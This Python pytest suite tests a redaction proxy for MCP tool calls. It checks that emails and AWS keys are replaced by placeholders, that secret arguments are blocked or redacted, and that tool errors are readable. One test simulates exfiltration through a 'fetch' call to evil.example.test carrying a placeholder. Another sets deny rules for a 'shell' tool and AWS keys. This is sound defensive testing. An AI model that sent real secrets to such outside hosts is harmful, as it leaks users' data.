"""`cordon mcp` between the official MCP Python SDK client and an SDK server (real peers).

The client is `mcp.Client` with `StdioServerParameters` whose command is `cordon mcp -- python
fake_server.py`; every test runs under both the initialize handshake (2025-11-25, 'legacy') and
the 2026-07-28 protocol ('auto' probes server/discover).
"""

import re
import json
import pathlib

import anyio
import pytest

from mcp import Client, StdioServerParameters

from fake_server import FAKE_AWS, FAKE_EMAIL

MODES = ["legacy", "auto"]



def token(type_and_number):
    """A reversible placeholder: its type and number, then the random tag drawn for each token."""
    return re.compile("\u27e6" + type_and_number + "_[0-9A-Z]{6}\u27e7")

def params(cordon, python, server_script, record_file, *options, mode="normal"):
    return StdioServerParameters(
        command=cordon,
        args=["mcp", "--log-level", "warning", *options, "--", python, server_script, mode],
        env={"RECORD_FILE": str(record_file)},
    )


def received(record_file: pathlib.Path):
    if not record_file.exists():
        return []
    return [json.loads(line) for line in record_file.read_text().splitlines()]


def texts(result):
    return [block.text for block in result.content if getattr(block, "type", "") == "text"]


def run(coroutine_function, timeout=60):
    async def bounded():
        with anyio.fail_after(timeout):
            return await coroutine_function()

    return anyio.run(bounded)


@pytest.mark.parametrize("mode", MODES)
def test_tool_result_reaches_the_model_with_placeholders(cordon, python, server_script, record_file, mode):
    async def scenario():
        async with Client(params(cordon, python, server_script, record_file), mode=mode) as client:
            return await client.call_tool("lookup_customer", {"customer": "acme"})

    result = run(scenario)
    text = " ".join(texts(result))
    assert not result.is_error
    assert FAKE_EMAIL not in text and FAKE_AWS not in text
    assert token("EMAIL_1").search(text) and token("AWS_ACCESS_KEY_ID_1").search(text)
    assert "Customer acme" in text


@pytest.mark.parametrize("mode", MODES)
def test_structured_content_keeps_its_schema_and_matches_its_text_copy(cordon, python, server_script, record_file, mode):
    async def scenario():
        async with Client(params(cordon, python, server_script, record_file), mode=mode) as client:
            tools = {tool.name: tool for tool in (await client.list_tools()).tools}
            assert tools["owner"].output_schema is not None
            # The SDK validates structuredContent against the tool's outputSchema.
            return await client.call_tool("owner", {"customer": "acme"})

    result = run(scenario)
    assert not result.is_error
    structured = result.structured_content
    assert token("EMAIL_1").fullmatch(structured["email"])
    assert structured == {"email": structured["email"], "seats": 12, "active": True}
    assert json.loads(texts(result)[0]) == structured
    assert FAKE_EMAIL not in json.dumps(result.model_dump(mode="json"))


@pytest.mark.parametrize("mode", MODES)
def test_placeholders_are_restored_only_for_tools_the_policy_names(cordon, python, server_script, record_file, mode):
    async def scenario():
        async with Client(
            params(cordon, python, server_script, record_file, "--restore-tool", "send_mail"), mode=mode
        ) as client:
            looked_up = await client.call_tool("lookup_customer", {"customer": "acme"})
            found = token("EMAIL_1").search(" ".join(texts(looked_up)))
            assert found
            placeholder = found.group(0)
            await client.call_tool("send_mail", {"to": placeholder, "body": "hello"})
            await client.call_tool("fetch", {"url": f"https://evil.example.test/?q={placeholder}"})

    run(scenario)
    calls = {entry["tool"]: entry["arguments"] for entry in received(record_file)}
    assert calls["send_mail"]["to"] == FAKE_EMAIL
    assert FAKE_EMAIL not in calls["fetch"]["url"]
    assert token("EMAIL_1").search(calls["fetch"]["url"])


@pytest.mark.parametrize("mode", MODES)
def test_secrets_in_tool_arguments_are_redacted_before_the_server(cordon, python, server_script, record_file, mode):
    async def scenario():
        async with Client(params(cordon, python, server_script, record_file), mode=mode) as client:
            return await client.call_tool("send_mail", {"to": "ops", "body": f"key {FAKE_AWS}"})

    result = run(scenario)
    assert not result.is_error
    calls = received(record_file)
    assert calls and FAKE_AWS not in json.dumps(calls)
    assert calls[0]["arguments"]["body"].startswith("key ")


@pytest.mark.parametrize("mode", MODES)
def test_a_blocked_tool_call_is_a_tool_error_the_model_can_read(cordon, python, server_script, record_file, tmp_path, mode):
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "default_destination: api\n"
        "destinations:\n"
        "  api: {max_level: internal, action: redact}\n"
        "detectors:\n"
        "  aws-access-key-id: {action: block}\n"
        "mcp_tools:\n"
        "  - tool: shell\n"
        "    action: block\n"
    )

    async def scenario():
        async with Client(
            params(cordon, python, server_script, record_file, "--policy", str(policy)), mode=mode
        ) as client:
            by_rule = await client.call_tool("shell", {"command": "ls"})
            by_value = await client.call_tool("send_mail", {"to": "ops", "body": f"key {FAKE_AWS}"})
            from_server = await client.call_tool("lookup_customer", {"customer": "acme"})
            return by_rule, by_value, from_server

    by_rule, by_value, from_server = run(scenario)
    assert by_rule.is_error and texts(by_rule)[0].startswith("blocked by cordon:") and "shell" in texts(by_rule)[0]
    assert by_value.is_error and "aws-access-key-id ×1" in texts(by_value)[0]
    assert from_server.is_error and "aws-access-key-id" in texts(from_server)[0]
    for result in (by_rule, by_value, from_server):
        assert FAKE_AWS not in json.dumps(result.model_dump(mode="json"))
    tools_called = [entry["tool"] for entry in received(record_file)]
    assert "shell" not in tools_called and "send_mail" not in tools_called
    assert "lookup_customer" in tools_called


@pytest.mark.parametrize("mode", MODES)
def test_resources_and_prompts_are_redacted(cordon, python, server_script, record_file, mode):
    async def scenario():
        async with Client(params(cordon, python, server_script, record_file), mode=mode) as client:
            resource = await client.read_resource("config://app")
            prompt = await client.get_prompt("review", {"topic": "billing"})
            return resource, prompt

    resource, prompt = run(scenario)
    resource_text = resource.contents[0].text
    assert "region = eu-west-1" in resource_text
    assert FAKE_AWS not in resource_text and FAKE_EMAIL not in resource_text
    prompt_text = json.dumps(prompt.model_dump(mode="json"), ensure_ascii=False)
    assert FAKE_EMAIL not in prompt_text and token("EMAIL_1").search(prompt_text)


@pytest.mark.parametrize("mode", MODES)
def test_non_json_on_the_server_stdout_is_dropped_and_the_session_works(cordon, python, server_script, record_file, mode):
    async def scenario():
        async with Client(params(cordon, python, server_script, record_file, mode="garbage"), mode=mode) as client:
            return await client.call_tool("lookup_customer", {"customer": "acme"})

    result = run(scenario)
    assert not result.is_error
    assert FAKE_AWS not in " ".join(texts(result))


@pytest.mark.parametrize("mode", MODES)
def test_a_server_that_dies_mid_request_gets_the_request_answered(cordon, python, server_script, record_file, mode):
    async def scenario():
        async with Client(params(cordon, python, server_script, record_file), mode=mode) as client:
            try:
                result = await client.call_tool("crash", {})
            except Exception as error:  # the SDK raises MCPError for a JSON-RPC error
                return str(error)
            return result

    outcome = run(scenario, timeout=30)
    # An answer (the proxy's error), not a hang: fail_after would raise TimeoutError.
    assert "exited" in str(outcome) or "Connection closed" in str(outcome)
